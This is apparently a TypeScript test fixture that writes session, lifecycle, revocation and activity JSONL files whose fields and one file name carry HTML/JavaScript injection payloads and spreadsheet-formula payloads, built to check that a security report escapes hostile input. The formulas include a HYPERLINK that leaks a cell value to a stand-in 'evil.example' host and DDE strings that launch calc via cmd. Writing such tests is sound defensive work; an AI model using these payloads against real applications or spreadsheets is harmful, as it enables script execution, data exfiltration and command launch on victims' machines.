import { jsonl, writeFiles } from './helpers.ts';

/**
 * Native-format inputs whose attacker-controlled fields (user agents, reasons, ids, a file
 * name) carry HTML, `javascript:` and spreadsheet-formula payloads, placed so that every
 * part of the report shows one: findings (ids, details), coverage rows, reuse clusters,
 * the quarantine and the inputs manifest. Each HTML payload calls alert() when it runs.
 */
export const PAYLOADS = {
  userAgent: "<script>alert('ua')</script>",
  ip: `"><img src=x onerror=alert('ip')>`,
  session: `s-"><img src=x onerror=alert('session')>`,
  subject: "u-<svg onload=alert('subject')>",
  event: "lc-<script>alert('event')</script>",
  reason: "javascript:alert('reason')",
  revocationReason: "<img src=x onerror=alert('revocation')>",
  reuseAgent: "<script>alert('reuse')</script>",
  reuseIp: "javascript:alert('reuse-ip')",
  type: "<script>alert('type')</script>",
  file: `x"><img src=x onerror=alert('file')>.jsonl`,
} as const;

/** Ids that a spreadsheet would evaluate as formulas (OWASP CSV injection). */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
] as const;

/** Writes the hostile inputs into a new temporary folder and returns it. */
export function hostileInputs(): string {
  const sessions = [
    { type: 'session.created', ts: '2026-08-01T09:00:00Z', session_id: 's-1', subject_id: 'u-1', ip: PAYLOADS.ip, user_agent: PAYLOADS.userAgent, expires_at: '2026-09-01T00:00:00Z' },
    { type: 'session.created', ts: '2026-08-01T09:05:00Z', session_id: 's-2', subject_id: 'u-2', ip: '203.0.113.5', user_agent: 'Mozilla/5.0' },
    ...FORMULAS.map((f, i) => ({ type: 'session.created', ts: `2026-08-01T10:0${i}:00Z`, session_id: `s-formula-${i}`, subject_id: f, user_agent: 'Mozilla/5.0' })),
    { type: 'session.created', ts: '2026-08-01T11:00:00Z', session_id: FORMULAS[0], subject_id: 'u-formula', ip: '203.0.113.9' },
  ];
  const lifecycle = [
    { type: 'subject.offboarded', ts: '2026-08-02T10:00:00Z', subject_id: 'u-1', event_id: PAYLOADS.event, reason: PAYLOADS.reason, actor_id: 'u-hr' },
  ];
  const revocations = [{ type: 'session.revoked', ts: '2026-08-03T10:00:00Z', session_id: 's-2', reason: PAYLOADS.revocationReason }];
  const activity = [
    { type: 'session.activity', ts: '2026-08-03T11:00:00Z', session_id: 's-2', ip: PAYLOADS.reuseIp, user_agent: PAYLOADS.reuseAgent, outcome: 'denied', reason: PAYLOADS.reason },
    { type: 'session.activity', ts: '2026-08-03T12:00:00Z', session_id: 's-2', ip: '203.0.113.5', user_agent: PAYLOADS.reuseAgent, outcome: 'allowed', action: PAYLOADS.revocationReason },
    { type: PAYLOADS.type, ts: '2026-08-03T12:30:00Z', session_id: 's-2' },
  ];
  return writeFiles({
    'sessions.jsonl': jsonl(...sessions),
    'lifecycle.jsonl': jsonl(...lifecycle),
    'revocations.jsonl': jsonl(...revocations),
    'activity.jsonl': jsonl(...activity),
    [PAYLOADS.file]: jsonl({ type: 'session.created', ts: '2026-08-01T12:00:00Z', session_id: PAYLOADS.session, subject_id: PAYLOADS.subject }),
  });
}
